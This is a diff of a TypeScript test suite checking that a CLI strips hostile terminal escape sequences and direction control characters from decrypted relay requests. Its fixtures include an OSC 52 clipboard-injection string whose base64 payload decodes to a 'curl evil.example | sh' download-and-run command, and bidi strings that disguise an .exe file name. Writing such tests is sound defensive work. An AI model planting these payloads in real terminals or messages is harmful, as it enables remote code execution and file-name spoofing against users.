@@ -21,6 +21,8 @@ const CLIPBOARD = '\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007';
 const C1_CSI = '\u009b31m';
 const BIDI = '\u202egnp.exe\u202c \u2066isolate\u2069';
 const ZERO_WIDTH = 'a\u200bb\u200dc\u2060d\ufeffe';
+/** Direction marks (RLM, LRM, ALM): allowed by the request schema, still replaced when printed. */
+const MARKS = '\u200fgnp.exe\u200e \u061cmark';
 const HOSTILE = `${CLEAR}${TITLE}${LINK}${CLIPBOARD}${C1_CSI}${BIDI}${ZERO_WIDTH}`;
 
 let provider: KeyPair;
@@ -124,15 +126,13 @@ describe('escape sequences from the relay never reach the terminal (#10.1)', () 
 
   it('in requests that decrypt: pull --key, list, show and show --json print none of them', async () => {
     const inbox = newInbox();
-    // Passes the request schema (which refuses control characters and bidi overrides), but carries
-    // zero-width characters and a line separator, which the terminal filter must still neutralise.
-    const sneaky = await validRequest({ name: `Sam ${ZERO_WIDTH}`, region: `Noord${'\u2028'}Zuid`, message: `Hallo\nTweede regel ${ZERO_WIDTH}` });
-    // Fails the schema (bidi overrides, escape sequences): refused by field and rule, never quoted.
-    const bidi = { ...(await validRequest()), name: `Sam ${BIDI}` };
+    // Passes the request schema (which refuses control characters, bidi overrides and isolates),
+    // but carries direction marks, zero-width characters and a line separator.
+    const sneaky = await validRequest({ name: `Sam ${MARKS} ${ZERO_WIDTH}`, region: `Noord${'\u2028'}Zuid`, message: `Hallo ${MARKS}\nTweede regel ${ZERO_WIDTH}` });
+    // Fails the schema, whose message quotes what it received (meeting: … but received "<ESC>[2J…").
     const broken = { ...(await validRequest()), meeting: HOSTILE, name: CLEAR };
     const items = [
       { id: 'sneaky', receivedAt: '2026-11-24T10:00:00Z', ciphertext: await encryptRaw(sneaky) },
-      { id: 'bidi', receivedAt: '2026-11-24T10:30:00Z', ciphertext: await encryptRaw(bidi) },
       { id: 'broken', receivedAt: '2026-11-24T11:00:00Z', ciphertext: await encryptRaw(broken) },
     ];
     let listed = false;
@@ -145,15 +145,14 @@ describe('escape sequences from the relay never reach the terminal (#10.1)', () 
     const keyArgs = ['--key', keyFile, '--passphrase-file', passphraseFile];
     const pulled = await runCli(pullArgs(server.url, inbox, ...keyArgs));
     expect(pulled.code).toBe(1);
-    expect(pulled.stdout).toBe('Pulled 3 new request(s) into the inbox.\n');
-    expect(pulled.stderr).toContain('2 request(s) could not be decrypted with this key.');
-    expect(pulled.stderr).toMatch(/_bidi\.asc: .*name: must not contain control characters or characters that change the reading direction/);
+    expect(pulled.stdout).toBe('Pulled 2 new request(s) into the inbox.\n');
+    expect(pulled.stderr).toContain('1 request(s) could not be decrypted with this key.');
     expectPrintable(pulled);
 
     const list = await runCli(['list', '--inbox', inbox, ...keyArgs]);
     expect(list.code).toBe(0);
     expect(list.stdout).toContain(sneaky.reference);
-    expect(list.stdout).toContain('Sam a\ufffdb\ufffdc\ufffdd');
+    expect(list.stdout).toContain('Sam \ufffdgnp.exe\ufffd');
     expect(list.stderr).toContain('_broken.asc');
     expectPrintable(list);
 
